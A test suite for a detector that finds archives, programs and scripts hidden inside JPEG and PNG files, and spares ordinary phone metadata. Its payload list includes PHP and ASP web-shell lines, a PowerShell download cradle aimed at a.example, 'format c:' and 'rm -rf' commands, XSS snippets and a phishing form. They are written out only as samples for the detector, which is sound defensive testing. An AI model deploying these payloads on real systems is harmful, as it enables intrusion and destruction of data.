// What attackers hide in pictures is found wherever it is; what phones, cameras and programs write into them is not taken for it.
import { readFile } from 'node:fs/promises'
import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { findHiddenContent, recogniseContent } from '../../functions/inspect/hidden-content.ts'
import { makeSegment } from '../fixtures/documents/jpeg-encoder.ts'
import { insertSegments, makeXmpSegment } from '../fixtures/documents/jpeg-segments.ts'
import { testVirus } from '../fixtures/documents/other-formats.ts'
import { addGainMap, addMotionPhoto, addSamsungTrailer } from '../fixtures/documents/phone-trailers.ts'
import { insertBeforeEnd, insertBehindHeader, makeChunk } from '../fixtures/documents/png-writer.ts'
import { seedRandom } from '../fixtures/documents/random.ts'

const readFixture = (name: string) => readFile(new URL(`../fixtures/${name}`, import.meta.url))
const photo = await readFixture('photo.jpg')
const card = await readFixture('card.png')
const letter = await readFixture('letter.pdf')
const latin1 = (text: string) => Buffer.from(text, 'latin1')

const readCodes = (bytes: Uint8Array) => findHiddenContent(bytes).map(({ code }) => code)

/** APPNOTE 4.3.7, 4.3.12, 4.3.16: one stored file. */
function makeZip(name: string, content: Buffer): Buffer {
  const common = Buffer.alloc(26)
  common.writeUInt16LE(20, 0)
  common.writeUInt32LE(content.length, 14)
  common.writeUInt32LE(content.length, 18)
  common.writeUInt16LE(name.length, 22)
  const entry = Buffer.concat([latin1('PK\x03\x04'), common, latin1(name), content])
  const directory = Buffer.concat([latin1('PK\x01\x02\x14\0'), common, Buffer.alloc(14), latin1(name)])
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(entry.length, 16)
  return Buffer.concat([entry, directory, end])
}

/** The DOS header points to `PE`, two zeros and the machine. */
function makeWindowsProgram(): Buffer {
  const program = Buffer.alloc(512)
  program.write('MZ', 'latin1')
  program.writeUInt32LE(128, 60)
  program.write('PE\0\0\x64\x86', 128, 'latin1')
  return program
}

function makeElf(): Buffer {
  const program = Buffer.alloc(64)
  program.write('\x7fELF\x02\x01\x01', 'latin1')
  program.writeUInt16LE(2, 16)
  program.writeUInt16LE(183, 18)
  program.writeUInt32LE(1, 20)
  return program
}

/** POSIX.1, pax, "ustar": the checksum is that of the header with eight spaces in its place. */
function makeTar(): Buffer {
  const header = Buffer.alloc(1024)
  header.write('payload.sh', 'latin1')
  header.write('ustar\x0000', 257, 'latin1')
  header.fill(' ', 148, 156)
  const sum = header.reduce((total, value) => total + value, 0)
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1')
  return header
}

const zip = makeZip('payload.exe', Buffer.from('anything'))
const payloads: readonly (readonly [string, Buffer])[] = [
  ['a ZIP', zip],
  ['the end of a ZIP whose entries are disguised', change(zip, (copy) => copy.writeUInt32LE(0, 0))],
  ['a ZIP, compressed by a recent method', change(zip, (copy) => copy.writeUInt16LE(95, 8)).subarray(0, 60)],
  ['an empty ZIP', Buffer.concat([latin1('PK\x05\x06'), Buffer.alloc(18)])],
  ['a RAR', latin1('Rar!\x1a\x07\x01\x00')],
  ['a 7z', latin1('7z\xbc\xaf\x27\x1c\0\x04')],
  ['a CAB', latin1('MSCF\0\0\0\0')],
  ['an XZ', latin1('\xfd7zXZ\0\0\x04')],
  ['a bzip2', latin1('BZh91AY&SY')],
  ['a tar', makeTar()],
  ['a package of Debian', latin1('!<arch>\ndebian-binary   ')],
  ['a PDF', letter],
  ['a program of Windows', makeWindowsProgram()],
  ['a program of Linux', makeElf()],
  ['a program of macOS', Buffer.from('cffaedfe0c00000100000000020000001000000000000000', 'hex')],
  ['a program of an old macOS', Buffer.from('feedface00000012000000000000000200000010', 'hex')],
  ['a program for both kinds of macOS', Buffer.from('cafebabe0000000201000007000000030000400000010000', 'hex')],
  ['a Java class', Buffer.from('cafebabe0000003d001d0a0002000307', 'hex')],
  ['a program of Android', latin1('dex\n035\0')],
  ['a WebAssembly module', latin1('\0asm\x01\0\0\0')],
  ['a web page', latin1('<!DOCTYPE HTML>\n<title>x</title>')],
  ['a script in a page', latin1('text <ScRiPt>alert(1)</script>')],
  ['a picture that runs a script', latin1('<img src=x\nonerror=alert(1)>')],
  ['a link that runs a script', latin1('<a title="x" href=" javascript:alert(1)">')],
  ['PHP', latin1('<?php system($_GET["c"]); ?>')],
  ['PHP in a short tag', latin1('<?=`$_GET[0]`?>')],
  ['PHP that calls a function in a short tag', latin1('<? \r\nsystem ("id") ?>')],
  ['PHP that prints in a short tag', latin1('<? echo 1 ?>')],
  ['PHP for another script, as in Exif', latin1('/.*/e\0eval(base64_decode("aWQ="))')],
  ['PHP in a short tag without a space', latin1('<?system($_GET[1]);?>')],
  ['a page that leads elsewhere', latin1('<META HTTP-EQUIV="refresh" content="0;url=//a.example">')],
  ['a page that asks for a password', latin1('<form action="//a.example"><input type=password>')],
  ['a batch file of Windows', latin1('@echo off\r\nformat c:\r\n')],
  ['a batch file in capitals', latin1('@ECHO OFF\r\nformat c:\r\n')],
  ['VBScript', latin1('Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"')],
  ['JScript', latin1('new ActiveXObject("wscript.shell").Run("calc")')],
  ['PowerShell', latin1('powershell.exe -nop -enc SQBFAFgA')],
  ['PowerShell that fetches a program', latin1('IEX (New-Object Net.WebClient).DownloadString("http://a.example")')],
  ['a script of Node', latin1('require("child_process").exec("id")')],
  ['a shortcut to the web', latin1('[InternetShortcut]\r\nURL=file:///c:/windows/system32/calc.exe')],
  ['a starter of Linux', latin1('[Desktop Entry]\nType=Application\nExec=id')],
  ['an image of a disc', latin1('\x01CD001\x01\0')],
  ['what scanners of viruses are tried with', latin1(testVirus)],
  ['a shortcut of Windows', Buffer.from('4c0000000114020000000000c00000000000004681000000', 'hex')],
  [
    'an old Word document',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(16), Buffer.from('3e000300feff0900', 'hex')]),
  ],
  ['ASP', latin1('<%eval request("c")%>')],
  ['JSP', latin1('<%@ page import="java.util.*" %>')],
  ['a shell script', latin1('\n#!/bin/sh\nrm -rf x\n')],
  ['a PHP archive', latin1('__HALT_COMPILER(); ?>')],
]

const withChunk = (type: string, data: string) => insertBehindHeader(card, [makeChunk(type, latin1(data))])

function change(bytes: Buffer, edit: (copy: Buffer) => void): Buffer {
  const copy = Buffer.from(bytes)
  edit(copy)
  return copy
}

describe('what is hidden in a picture', () => {
  it.each(payloads)('%s', (_name, payload) => {
    const places: readonly Buffer[] = [
      Buffer.concat([photo, payload]),
      Buffer.concat([photo, Buffer.alloc(4096), payload]),
      insertSegments(photo, [makeSegment(0xfe, payload)]),
      insertSegments(photo, [makeSegment(0xed, Buffer.concat([latin1('Photoshop 3.0\0'), payload]))]),
      Buffer.concat([card, payload]),
      insertBehindHeader(card, [makeChunk('prVt', payload)]),
      insertBeforeEnd(card, [makeChunk('tEXt', Buffer.concat([latin1('Comment\0'), payload]))]),
      insertBehindHeader(card, [makeChunk('zTXt', Buffer.concat([latin1('Comment\0\0'), deflateSync(payload)]))]),
      insertBehindHeader(card, [makeChunk('iCCP', Buffer.concat([latin1('Profile\0\0'), deflateSync(payload)]))]),
      insertBehindHeader(card, [
        makeChunk('iTXt', Buffer.concat([latin1('Comment\0\x01\0en\0Word\0'), deflateSync(payload)])),
      ]),
      // A stream that breaks off still yields what came before.
      insertBehindHeader(card, [
        makeChunk('zTXt', Buffer.concat([latin1('a\0\0'), deflateSync(payload, { level: 0 }).subarray(0, -4)])),
      ]),
    ]
    expect(places.map(readCodes)).toEqual(places.map(() => ['hidden_content']))
    expect(recogniseContent(payload)).toMatch(/^an? /)
  })

  it('a JPEG that is JavaScript as well', () => {
    const script = makeSegment(0xfe, latin1('*/=alert("x")/*'))
    const opening = makeSegment(0xe0, Buffer.alloc(0x2f2a - 2))
    expect(readCodes(insertSegments(photo, [script]))).toEqual([])
    expect(readCodes(Buffer.concat([photo.subarray(0, 2), opening, script, photo.subarray(2)]))).toEqual([
      'hidden_content',
    ])
  })

  it('a text that is small only as long as it is compressed', () => {
    const bomb = deflateSync(Buffer.alloc(17 * 1024 * 1024))
    const bytes = insertBehindHeader(card, [makeChunk('zTXt', Buffer.concat([latin1('Comment\0\0'), bomb]))])
    expect(readCodes(bytes)).toEqual(['hidden_content'])
  })

  it('is named in the message', () => {
    expect(findHiddenContent(Buffer.concat([photo, zip]))[0]?.message).toContain('holds a ZIP archive besides')
  })
})

describe('what is not hidden', () => {
  const random = seedRandom('trailers')
  it.each<[string, Buffer]>([
    ['nothing', photo],
    ['nothing in a PNG', card],
    ['a Motion Photo', addMotionPhoto(photo, random)],
    ['a gain map', addGainMap(photo, photo)],
    ["Samsung's trailer", addSamsungTrailer(photo, random, { film: true })],
    ['a preview behind the end', Buffer.concat([photo, photo])],
    [
      'a URL and an address in a comment',
      insertSegments(photo, [makeSegment(0xfe, latin1('<a@b.c> https://a.b/?x=<1>'))]),
    ],
    [
      'XMP',
      insertSegments(photo, [
        makeXmpSegment('dc:title="&lt;script&gt; and PDF-1.7"', '<rdf:Seq><rdf:li>1</rdf:li></rdf:Seq>'),
      ]),
    ],
    [
      'the marks around XMP',
      insertSegments(photo, [makeSegment(0xe1, latin1('<?xpacket begin="" id="a"?><x/><?xpacket end="w"?>'))]),
    ],
    ['JSON of a manifest', insertSegments(photo, [makeSegment(0xeb, latin1('{"claim":"#!","text":"PK and MZ"}'))])],
    ['letters of a ZIP without its fields', Buffer.concat([photo, latin1('PK\x03\x04 and PK\x05\x06 and PK\x01\x02')])],
    ['letters of a program without its header', Buffer.concat([photo, latin1('MZ'), Buffer.alloc(64, 1)])],
    ['a PDF header without a PDF', insertSegments(photo, [makeSegment(0xfe, latin1('made of %PDF-1.4'))])],
    ['the first letters of a program of macOS', Buffer.concat([photo, Buffer.from('feedface', 'hex')])],
    [
      'a first segment that begins like a comment',
      insertSegments(photo, [makeSegment(0xe0, Buffer.alloc(0x2f2a - 2))]),
    ],
    ['a text of a PNG whose language does not end', withChunk('iTXt', 'Comment\0\x01\0en')],
    ['a text of a PNG whose translated name does not end', withChunk('iTXt', 'Comment\0\x01\0en\0Word')],
    ['a text of a PNG that cannot be inflated', withChunk('zTXt', 'Comment\0\0as it was typed')],
    [
      "a phone's quantisation table that spells a short tag of PHP",
      insertSegments(photo, [makeSegment(0xdb, latin1(`\x01;:<?=<;<=>=>${'>'.repeat(40)}=?>?>>>>>>>>>`))]),
    ],
    ['a short tag that ends before anything is done', Buffer.concat([photo, latin1('<?= 1 ?> $a `b` c()')])],
    [
      'the mark of a tar without its checksum',
      Buffer.concat([photo, change(makeTar(), (copy) => copy.fill(0, 148, 156))]),
    ],
    [
      'a word of PowerShell',
      insertSegments(photo, [makeSegment(0xfe, latin1('resized with powershell, by an editor'))]),
    ],
    ['an ELF header without fields', Buffer.concat([photo, latin1('\x7fELF'), Buffer.alloc(64, 3)])],
  ])('%s', (_name, bytes) => {
    expect(readCodes(bytes)).toEqual([])
  })

  it('the chance of a million bytes', () => {
    for (let seed = 0; seed < 4; seed++) expect(recogniseContent(seedRandom(`${seed}`).bytes(250_000))).toBeUndefined()
  })
})

describe('whatever the bytes', () => {
  it('it answers', () => {
    const starts = [
      latin1('PK\x03\x04'),
      latin1('PK\x05\x06'),
      latin1('MZ'),
      latin1('<a '),
      latin1('\x7fELF'),
      latin1('\xca\xfe\xba\xbe'),
    ]
    fc.assert(
      fc.property(
        fc.constantFrom(Buffer.alloc(0), Buffer.from('ffd8', 'hex'), card.subarray(0, 33), card.subarray(0, 8)),
        fc.array(fc.oneof(fc.constantFrom(...starts), fc.uint8Array({ maxLength: 60 }))),
        (start, parts) => {
          const bytes = Buffer.concat([start, ...parts])
          expect(findHiddenContent(bytes).length).toBeLessThanOrEqual(1)
        },
      ),
      { numRuns: 500 },
    )
  })
})
